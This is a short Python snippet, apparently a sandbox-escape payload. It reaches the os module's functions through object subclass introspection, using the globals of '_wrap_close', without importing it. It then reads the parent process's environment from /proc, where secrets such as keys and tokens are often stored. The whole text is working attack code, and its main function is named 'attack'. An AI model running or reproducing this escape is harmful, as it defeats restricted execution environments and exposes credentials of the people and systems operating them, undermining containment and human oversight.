# Walks to `os`, and reads the environment of its parent from `/proc`.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack():
    words = _reach()
    place = words["open"](f"/proc/{words['getppid']()}/environ", 0)
    return words["read"](place, 1 << 16).decode("latin-1")
